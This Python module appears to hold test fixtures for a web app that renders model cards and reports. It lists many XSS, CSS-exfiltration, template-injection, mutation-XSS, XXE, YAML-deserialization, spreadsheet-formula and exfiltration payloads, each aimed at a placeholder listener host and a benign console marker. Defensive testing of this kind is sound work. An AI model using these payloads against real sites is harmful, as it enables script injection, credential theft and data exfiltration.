"""Attacks on whoever reads a card: text that wants to be a program, and reports that want out.

In each payload §JS§ is code that tells of itself on the console, and §HOST§ the address of a
listener that hears of every request.
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    name: str
    payload: str

    def aimed(self, host: str) -> str:
        """The payload as it is used, with the listener's address."""
        # Without quotes and equals signs, which end an attribute, or make Markdown see none.
        code = f"console.log(/fired:{self.name}/,Reflect.set(self,/__fired/.source,1))"
        return self.payload.replace("§JS§", code).replace("§HOST§", f"{host}/{self.name}")


def _attacks(**payloads: str) -> list[Attack]:
    return [Attack(name.replace("_", "-"), payload) for name, payload in payloads.items()]


# Where people write Markdown: fields of the card and comments.
MARKDOWN = _attacks(
    script="<script>§JS§</script>",
    script_in_upper_case="<ScRiPt >§JS§</sCrIpT >",
    script_from_elsewhere='<script src="§HOST§.js"></script>',
    script_in_a_code_fence="```html\n</code></pre><script>§JS§</script>\n```",
    script_after_a_comment="<!-- --!><script>§JS§</script> -->",
    script_as_a_module='<script type="module">§JS§</script>',
    picture_with_a_handler="<img src=x onerror=§JS§>",
    picture_with_slashes="<img/src=x/onerror=§JS§//>",
    picture_that_counts_readers="![x](§HOST§.png)",
    picture_by_reference="![x][y]\n\n[y]: §HOST§.png",
    picture_whose_title_breaks_out='![x](x "onerror=§JS§ \\" onerror=§JS§ x=\\"")',
    picture_set='<img srcset="§HOST§.png 1x" src=x onerror=§JS§>',
    details_that_open="<details open ontoggle=§JS§><summary>x</summary></details>",
    autofocus="<input autofocus onfocus=§JS§>",
    animation="<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=§JS§>x",
    body_that_loads="<body onload=§JS§>",
    video_without_source="<video><source onerror=§JS§></video>",
    marquee="<marquee onstart=§JS§>x</marquee>",
    link_to_a_script="[click](javascript:§JS§)",
    link_to_a_script_in_mixed_case="[click](JaVaScRiPt:§JS§)",
    link_to_a_script_in_entities="[click](&#106;avascript&colon;§JS§)",
    link_with_a_tab='<a href="java\tscript:§JS§">click</a>',
    link_with_a_control_character='<a href="\x01javascript:§JS§">click</a>',
    link_in_angle_brackets="[click](<javascript:§JS§>)",
    link_by_reference="[click][a]\n\n[a]: javascript:§JS§",
    link_by_itself="<javascript:§JS§>",
    link_to_visual_basic="[click](vbscript:msgbox(1))",
    link_to_data="[click](data:text/html,<script>§JS§</script>)",
    link_whose_title_breaks_out="[click](/x '\" onmouseover=\"§JS§')",
    link_that_pings='<a href="#x" ping="§HOST§">click</a>',
    drawing="<svg onload=§JS§></svg>",
    drawing_with_a_script="<svg><script>§JS§</script></svg>",
    drawing_that_animates="<svg><animate onbegin=§JS§ attributeName=x dur=1s>",
    drawing_that_links='<svg><a xlink:href="javascript:§JS§"><text y="9">click</text></a></svg>',
    drawing_that_uses='<svg><use href="§HOST§.svg#x"/></svg>',
    foreign_object="<svg><foreignObject><img src=x onerror=§JS§></foreignObject></svg>",
    formula='<math><mtext><a href="javascript:§JS§">click</a></mtext></math>',
    namespaces_confused=(
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
        "onerror=§JS§&gt;'>"
    ),
    style_in_a_drawing="<svg></p><style><a id='</style><img src=x onerror=§JS§>'>",
    mutation_by_noscript="<noscript><p title='</noscript><img src=x onerror=§JS§>'>",
    mutation_by_template="<template><p title='</template><img src=x onerror=§JS§>'></template>",
    mutation_by_textarea="<textarea><img title='</textarea><img src=x onerror=§JS§>'>",
    mutation_by_form="<form><math><mtext></form><form><mglyph><style></math><img src onerror=§JS§>",
    style_that_loads="<style>@import url(§HOST§.css); * { background: url(§HOST§.png) }</style>",
    style_that_reads='<style>[name^="c"] { background: url(§HOST§) }</style><input name=csrf>',
    style_attribute='<p style="background: url(§HOST§.png)">x</p>',
    stylesheet='<link rel="stylesheet" href="§HOST§.css">',
    font="<style>@font-face{font-family:x;src:url(§HOST§.woff)}p{font-family:x}</style><p>x",
    refresh='<meta http-equiv="refresh" content="0;url=§HOST§">',
    refresh_to_a_script='<meta http-equiv="refresh" content="0;url=javascript:§JS§">',
    base='<base href="§HOST§/"><img src="x.png">',
    form_that_asks='<form action="§HOST§"><input name=password><button autofocus>Sign in</button>',
    form_action="<form><button formaction=javascript:§JS§>click</button></form>",
    frame='<iframe src="javascript:§JS§"></iframe>',
    frame_with_a_document='<iframe srcdoc="<script>§JS§</script>"></iframe>',
    frame_from_elsewhere='<iframe src="§HOST§"></iframe>',
    object_of_data='<object data="javascript:§JS§"></object><object data="§HOST§"></object>',
    embedded='<embed src="javascript:§JS§"><embed src="§HOST§">',
    entities="&lt;script&gt;§JS§&lt;/script&gt; &#60;img src=x onerror=§JS§&#62;",
    entities_twice="&amp;lt;img src=x onerror=§JS§&amp;gt;",
    right_to_left="[\u202egnp.eniltuo\u202c](javascript:§JS§) \u2066<img src=x onerror=§JS§>\u2069",
    wide_brackets="\uff1cscript\uff1e§JS§\uff1c/script\uff1e <\u017fcript>§JS§</\u017fcript>",
    letters_of_no_width="<scr\u200bipt>§JS§</scr\u200bipt> <img\u2028src=x\u2029onerror=§JS§>",
    dangling="<img src='§HOST§?",
    dangling_link="[x](§HOST§ '\n\n<a href=\"",
    template="{{ constructor.constructor('§JS§')() }} {% debug %} {% include '/etc/passwd' %}",
    template_of_another_kind="${§JS§} #{§JS§} <%= §JS§ %> [[§JS§]] {{7*7}}",
    htmx='<p hx-get="§HOST§" hx-trigger="load" hx-on:htmx:load="§JS§">x</p>',
    htmx_by_data='<p data-hx-get="§HOST§" data-hx-trigger="load">x</p>',
    nested_quotations=">" * 400 + " <img src=x onerror=§JS§>",
    nested_lists="".join(f"{'  ' * depth}- x\n" for depth in range(60))
    + "<img src=x onerror=§JS§>",
    nested_brackets="[" * 3_000 + "x](javascript:§JS§)" + "]" * 3_000,
    many_stars="*a_" * 3_000,
    many_backticks="".join("`" * (length % 80 + 1) + "x" for length in range(400)),
    many_entities="&" * 3_000 + "<img src=x onerror=§JS§>",
    table_cells="| a |\n|---|\n| <img src=x onerror=§JS§> |\n| [x](javascript:§JS§) |",
    footnote="[^1]\n\n[^1]: <img src=x onerror=§JS§>",
    heading="# <img src=x onerror=§JS§>",
)
# Where people and programs give names: escaped, whatever they are.
NAMES = _attacks(
    tag="<img src=x onerror=§JS§>",
    tag_that_ends_an_attribute='"><svg onload=§JS§>',
    tag_with_a_quote="' autofocus onfocus=§JS§ x='",
    tag_that_ends_a_script="</script><script>§JS§</script>",
    tag_that_ends_a_title="</title><script>§JS§</script>",
    tag_that_ends_a_text_area="</textarea><img src=x onerror=§JS§>",
    tag_of_a_template="{{ §JS§ }}{% load rights %}{# #}",
    tag_with_a_formula='=HYPERLINK("§HOST§","x")',
    tag_of_json='{"x": "</script><img src=x onerror=§JS§>"}',
    tag_right_to_left="\u202e<img src=x onerror=§JS§>\u2066",
    tag_with_a_scheme="javascript:§JS§",
    tag_with_separators="\u2028<img src=x onerror=§JS§>\u2029",
)
# Rows of reports that mlgov reads itself.
CELLS = _attacks(
    cell_with_a_tag="<img src=x onerror=§JS§>",
    cell_with_a_formula='=HYPERLINK("§HOST§";"x")',
    cell_with_a_command="=cmd|' /C calc'!A0",
    cell_that_ends_the_table="</td></tr></table><script>§JS§</script>",
)
# Reports that are only looked at: none of their scripts runs, and they load nothing.
REPORTS = _attacks(
    report_script="<script>§JS§</script><img src=x onerror=§JS§><body onload=§JS§>",
    report_that_loads=(
        '<link rel="preconnect" href="§HOST§"><link rel="dns-prefetch" href="§HOST§">'
        '<link rel="prefetch" href="§HOST§"><link rel="modulepreload" href="§HOST§">'
        '<link rel="stylesheet" href="§HOST§"><link rel="icon" href="§HOST§">'
        '<link rel="manifest" href="§HOST§"><img src="§HOST§"><video src="§HOST§" autoplay></video>'
        '<style>@import url(§HOST§);p{background:url(§HOST§)}</style><p>x<object data="§HOST§">'
        '</object><embed src="§HOST§"><iframe src="§HOST§"></iframe><audio src="§HOST§"></audio>'
        '<script type="speculationrules">{"prefetch":[{"urls":["§HOST§"]}]}</script>'
    ),
    report_that_refreshes='<meta http-equiv="refresh" content="0;url=§HOST§">',
    report_with_a_base='<base href="§HOST§/" target="_top"><img src="x.png"><a href="y">x</a>',
    report_that_frames=(
        '<iframe srcdoc="<script>§JS§</script>"></iframe><iframe src="javascript:§JS§"></iframe>'
        '<iframe src="data:text/html,<script>§JS§</script>"></iframe>'
    ),
    report_with_its_own_policy=(
        '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">'
        "<script>§JS§</script>"
    ),
    report_in_another_charset='<meta charset="utf-7">+ADw-script+AD4-§JS§+ADw-/script+AD4-',
    report_that_begins_as_a_picture="\x89PNG\r\n\x1a\n<script>§JS§</script>",
    report_that_asks_for_a_password=(
        '<form action="§HOST§" method="post"><input name=p value=secret autofocus onfocus=§JS§>'
        "<button>Sign in</button></form>"
    ),
)
# Reports whose scripts somebody runs. A script says that it fired where it reached anything.
SCRIPTS = _attacks(
    reads_the_page="console.log(parent.document.body,§JS§)",
    writes_on_the_page="parent.__fired=1;§JS§",
    writes_on_the_top="top.document.title='x';§JS§",
    reads_cookies="if(document.cookie!==undefined)§JS§",
    writes_cookies="document.cookie='sessionid=x';§JS§",
    reads_storage="localStorage.setItem('x','y');§JS§",
    reads_storage_of_a_session="sessionStorage.setItem('x','y');§JS§",
    opens_a_database="indexedDB.open('x').onsuccess=()=>{§JS§}",
    keeps_files="caches.open('x').then(()=>{§JS§},()=>0)",
    fetches="fetch('§HOST§').then(()=>{§JS§},()=>0)",
    fetches_from_mlgov="fetch('/projects',{credentials:'include'}).then(r=>r.ok&&(§JS§),()=>0)",
    asks_as_in_old_times="let x=new XMLHttpRequest();x.open('GET','§HOST§');x.send()",
    sends_a_beacon="navigator.sendBeacon('§HOST§','x')",
    opens_a_socket="new WebSocket('§HOST§'.replace('http','ws')).onopen=()=>{§JS§}",
    listens_to_events="new EventSource('§HOST§').onopen=()=>{§JS§}",
    loads_a_picture="new Image().src='§HOST§'",
    loads_a_script="add('script',{src:'§HOST§'})",
    loads_a_module="import('§HOST§').then(()=>{§JS§},()=>0)",
    loads_a_style="add('link',{rel:'stylesheet',href:'§HOST§'})",
    prepares_a_connection="add('link',{rel:'preconnect',href:'§HOST§'})",
    prefetches="add('link',{rel:'prefetch',href:'§HOST§'})",
    speculates=(
        "add('script',{type:'speculationrules',text:"
        "JSON.stringify({prefetch:[{urls:['§HOST§']}],prerender:[{urls:['§HOST§']}]})})"
    ),
    calls_by_webrtc=(
        "let c=new RTCPeerConnection({iceServers:[{urls:'stun:§PEER§'},"
        "{urls:'turn:§TURN§?transport=tcp',username:'u',credential:'c'}]});"
        "c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))"
    ),
    frames_another_page="add('iframe',{src:'§HOST§'})",
    frames_mlgov="add('iframe',{src:'/projects',onload:e=>e.target.contentDocument&&(§JS§)})",
    starts_a_worker="new Worker(URL.createObjectURL(new Blob(['1']))).onmessage=()=>{§JS§}",
    starts_a_service_worker=(
        "navigator.serviceWorker.register('/static/mlgov/js/menus.js').then(()=>{§JS§},()=>0)"
    ),
    opens_a_window="if(window.open('§HOST§'))§JS§",
    opens_a_window_by_link="add('a',{href:'§HOST§',target:'_blank'}).click()",
    leads_the_page_away="top.location='§HOST§'",
    leads_the_page_away_by_link="add('a',{href:'§HOST§',target:'_top'}).click()",
    leads_the_page_back="history.back()",
    submits_a_form="add('form',{action:'§HOST§',method:'post',target:'_top'}).submit()",
    downloads="add('a',{href:'data:text/plain,x',download:'x.exe'}).click()",
    speaks_up="alert(1);confirm(1);prompt(1);print()",
    asks_for_rights="Notification.requestPermission().then(p=>p==='granted'&&(§JS§),()=>0)",
    measures_time="if(self.crossOriginIsolated||self.SharedArrayBuffer)§JS§",
    pretends_to_be_home="document.domain=document.domain;parent.document;§JS§",
    sends_messages="parent.postMessage({type:'htmx',html:'<img src=x onerror=§JS§>'},'*')",
)
# What a script does alone: afterwards there is no frame. The second one crashes Chromium 156, which
# tells nobody anything.
LEAVING = _attacks(
    leaves_the_frame="setTimeout(()=>{location='§HOST§?'+document.title},300)",
    calls_by_webrtc_from_within=(
        "add('iframe',{srcdoc:`<script>let c=new RTCPeerConnection({iceServers:[{urls:"
        "'stun:§PEER§'}]});c.createDataChannel('x');c.createOffer().then(o=>"
        "c.setLocalDescription(o))</`+`script>`})"
    ),
)
# Drawings and pictures that are more than that.
DRAWINGS = _attacks(
    drawing_report=(
        '<svg xmlns="http://www.w3.org/2000/svg" width="90" height="30" onload="§JS§">'
        '<script>§JS§</script><image href="§HOST§" width="9" height="9"/><style>@import '
        'url(§HOST§);</style><foreignObject width="9" height="9"><img '
        'xmlns="http://www.w3.org/1999/xhtml" src="§HOST§" onerror="§JS§"/></foreignObject>'
        '<rect width="90" height="30" fill="teal"/></svg>'
    ),
    drawing_with_entities=(
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y '
        '"&x;&x;">]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="§JS§">'
        "<text>&y;</text></svg>"
    ),
)
# A README of the Hub, imported.
README = _attacks(
    readme_front=(
        "---\nlicense: '<img src=x onerror=§JS§>'\ntags: ['<script>§JS§</script>', "
        "'javascript:§JS§']\nmodel_name: '</title><script>§JS§</script>'\n"
        "datasets: ['\"><svg onload=§JS§>']\n---\n# x\n"
    ),
    readme_body=(
        "---\nlicense: mit\ntags: ['<b onmouseover=§JS§>']\n---\n# Model\n\n## Uses\n\n"
        "<script>§JS§</script>\n[x](javascript:§JS§) ![x](§HOST§)\n\n## Limitations\n\n"
        "<details open ontoggle=§JS§>\n"
    ),
)
# READMEs that are refused.
REFUSED = _attacks(
    readme_that_makes_objects="---\nlicense: !!python/object/apply:os.system ['id']\n---\n# x\n",
    readme_that_grows="---\na: &a [x, x]\nb: &b [*a, *a]\ntags: [*b, *b]\n---\n# x\n",
)
EVERYTHING = [*MARKDOWN, *NAMES, *CELLS, *REPORTS, *SCRIPTS, *LEAVING, *DRAWINGS, *README, *REFUSED]
